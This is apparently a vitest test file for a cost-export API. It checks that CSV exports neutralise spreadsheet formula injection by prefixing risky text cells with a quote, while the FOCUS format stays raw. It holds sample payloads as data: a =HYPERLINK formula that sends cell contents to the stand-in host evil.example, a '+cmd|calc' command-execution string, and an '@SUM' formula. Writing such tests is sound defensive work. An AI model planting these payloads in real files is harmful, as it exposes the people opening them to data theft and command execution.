import pl from 'nodejs-polars';
import { beforeAll, describe, expect, it } from 'vitest';
import { COST_TABLE } from '../../../shared/src/costs/ledger/store.js';
import { costsApp } from './support.js';

/**
 * Formula injection: a plan's display name such as =HYPERLINK(...) reaches ServiceName,
 * ResourceName and ChargeDescription. The `csv` export (for spreadsheets) neutralises text cells
 * starting with = + - @ TAB CR by a leading single quote (OWASP); numbers, negative ones
 * included, are never touched. `focus` (a data interchange format for tools) stays raw.
 */
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
let t: Awaited<ReturnType<typeof costsApp>>;

beforeAll(async () => {
  t = await costsApp({ slug: 'acme_fx', currency: 'USD', timezone: 'UTC', now: '2026-03-20T12:00:00Z' }, { days: 3, rowsPerDay: 30, seed: 3, end: '2026-03-20' });
  const wh = t.deps.warehouse;
  await wh.execute({
    sql: `INSERT INTO ${wh.table('acme_fx_prod', COST_TABLE)} (BilledCost, EffectiveCost, ListCost, ContractedCost, BillingCurrency, BillingAccountId, BillingPeriodStart, BillingPeriodEnd,
            ChargeCategory, InvoiceIssuerName, ProviderName, PublisherName, ServiceCategory, ServiceName, ResourceName, ChargeDescription, SubAccountName, SubAccountId, ResourceId, RegionName, RegionId, x_CostCategory,
            ChargePeriodStart, ChargePeriodEnd, x_SourceRecordId)
          VALUES (@neg, @neg, @neg, @neg, 'USD', 'acct', @bps, @bpe, 'Purchase', 'Evil', 'Evil', 'Evil', 'Business Applications', @evil, @evil, @desc, @plus, @at, @num, @tab, '', 'saas', @start, @end, 'evil-1')`,
    params: {
      neg: '-12.5', evil: EVIL, desc: `${EVIL}: monthly 10 USD/month`, plus: '+cmd|calc', at: '@SUM(A1:A9)', num: '-12.5', tab: '\tTAB',
      bps: new Date('2026-03-01T00:00:00Z'), bpe: new Date('2026-04-01T00:00:00Z'), start: new Date('2026-03-19T00:00:00Z'), end: new Date('2026-03-20T00:00:00Z'),
    },
    types: { neg: 'NUMERIC', bps: 'TIMESTAMP', bpe: 'TIMESTAMP', start: 'TIMESTAMP', end: 'TIMESTAMP' },
  });
});

async function exported(format: 'csv' | 'focus') {
  const res = await t.app.fetch(new Request(`http://fn/api/v1/costs/acme_fx/export?format=${format}&start_date=2026-03-18&end_date=2026-03-20`, { headers: { 'x-api-key': t.key } }));
  expect(res.status).toBe(200);
  const df = pl.readCSV(Buffer.from(await res.arrayBuffer()), { inferSchemaLength: 0 });
  return df.filter(pl.col('x_SourceRecordId').eq(pl.lit('evil-1'))).toRecords()[0] as Record<string, string | null>;
}

describe('export formula injection', () => {
  it('csv: text cells starting with = + - @ TAB are prefixed with a quote; numbers (negative too) are untouched', async () => {
    const r = await exported('csv');
    expect(r.ServiceName).toBe(`'${EVIL}`);
    expect(r.ResourceName).toBe(`'${EVIL}`);
    expect(r.ChargeDescription).toBe(`'${EVIL}: monthly 10 USD/month`);
    expect(r.SubAccountName).toBe("'+cmd|calc");
    expect(r.SubAccountId).toBe("'@SUM(A1:A9)");
    expect(r.RegionName).toBe("'\tTAB");
    // A text cell that is a plain number is not a formula; money columns are numbers.
    expect(r.ResourceId).toBe('-12.5');
    for (const c of ['BilledCost', 'EffectiveCost', 'ListCost', 'ContractedCost']) expect(r[c], c).toBe('-12.5');
    expect(r.ProviderName).toBe('Evil');
  });

  it('focus: a data interchange file, left raw (README says so)', async () => {
    const r = await exported('focus');
    expect(r.ServiceName).toBe(EVIL);
    expect(r.SubAccountName).toBe('+cmd|calc');
    expect(r.BilledCost).toBe('-12.5');
    // FOCUS: an empty string is written as null (the text columns were not recognised before).
    expect(r.RegionId).toBeNull();
  });
});
